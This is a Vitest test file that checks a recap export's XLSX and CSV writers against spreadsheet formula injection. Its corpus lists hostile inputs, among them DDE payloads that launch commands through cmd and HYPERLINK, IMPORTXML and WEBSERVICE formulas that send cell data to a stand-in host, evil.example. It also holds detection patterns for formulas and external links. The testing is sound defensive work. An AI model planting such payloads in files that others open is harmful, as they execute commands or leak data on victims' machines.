import { describe, expect, it } from 'vitest';
import { writeCsv } from '../../../shared/platform/files/csv.ts';
import { readCsv, readParts, readWorkbook } from '../../../shared/platform/files/testing/read-back.ts';
import { writeWorkbook } from '../../../shared/platform/files/xlsx.ts';
import { aRecap, aRow } from '../testing/a-recap.ts';
import type { Recap } from './recap.ts';
import { CITY } from './recap.ts';
import { recapSheets } from './recap-workbook.ts';

/** What people have tried on those who open a file of others. */
const CORPUS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '=HYPERLINK("https://evil.example/?q="&B1,"Klik")',
  '"=HYPERLINK(""https://evil.example"",""Klik"")"',
  "=cmd|'/C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"x")',
  '=IMPORTXML("https://evil.example","//a")',
  '=WEBSERVICE("https://evil.example")',
  '{=1+1}',
  '#REF!',
  '#N/A',
  "'=1+1",
  'Nama;=1+1',
  'Nama; "=1+1"',
  'Nama\n=1+1',
  'Nama\r\n@SUM(1)',
  'https://evil.example',
  'mailto:evil@example',
  '<f>1+1</f>',
  ']]><f>1+1</f>',
  '&#61;1+1',
  '_x003D_1+1',
  '%3D1%2B1',
  '\u202e1+1=',
] as const;

/** Every text of a recap that somebody outside has written. */
function poisoned(text: string, id: string): Recap {
  const row = aRow({
    nip: text,
    name: text,
    grade: text,
    position: text,
    opd: 'A',
    unit: 'A',
    unitName: text,
    assessor: text,
    development: { area: text, proposal: text },
  });
  return aRecap({ id, agencyName: text, name: text, groups: [{ code: 'A', name: text }], rows: [row] });
}

const written = (id: string) => (text: string) => {
  const { summary, units, people } = recapSheets(poisoned(text, id));
  return { people, workbook: writeWorkbook([summary, units, people]) };
};

describe.each([CITY, 'A'])('the workbook of %s with a text that wants to be more', (id) => {
  it.each(CORPUS)('%j stays a text', async (text) => {
    const bytes = await written(id)(text).workbook;
    const parts = await readParts(bytes);
    const sheets = [...parts].filter(([name]) => name.startsWith('xl/worksheets/sheet'));
    expect(sheets).toHaveLength(3);
    for (const [, xml] of sheets) {
      expect(xml).not.toMatch(/<f[ >/]|<hyperlink|t="e"|ddeLink|oleLink/);
    }
    expect([...parts.keys()].filter((name) => /externalLink|connections|vba|embeddings/i.test(name))).toEqual(
      [],
    );
    const relations = [...parts].filter(([name]) => name.endsWith('.rels')).map(([, xml]) => xml);
    expect(relations.join()).not.toContain('TargetMode="External"');
    const [, , people] = await readWorkbook(bytes);
    const kept = text.replaceAll('\r', '\n');
    for (const at of [1, 2, 3, 4, 5, 6])
      expect(String(people?.rows[6]?.[at]).replaceAll('\r', '\n')).toBe(kept);
  });
});

/** How programs of other countries part a line: what begins a cell there must be harmless too. */
const ANY_CELL = /(?:^|[,;\t\r\n])["\s]*[=+\-@＝＋－＠]/u;

describe('the CSV with a text that wants to be more', () => {
  it.each(CORPUS)('%j begins no cell as a formula, whatever parts the cells', (text) => {
    const csv = writeCsv(written('A')(text).people);
    const [, cells = []] = readCsv(csv);
    expect(cells).toHaveLength(13);
    for (const cell of cells) expect(cell).not.toMatch(/^[\s"]*[=+\-@＝＋－＠]/u);
    const [, line = ''] = csv.split('\r\n');
    expect(line.replaceAll(',', ' ')).not.toMatch(ANY_CELL);
    expect(csv.split('\r\n')).toHaveLength(3);
  });
});
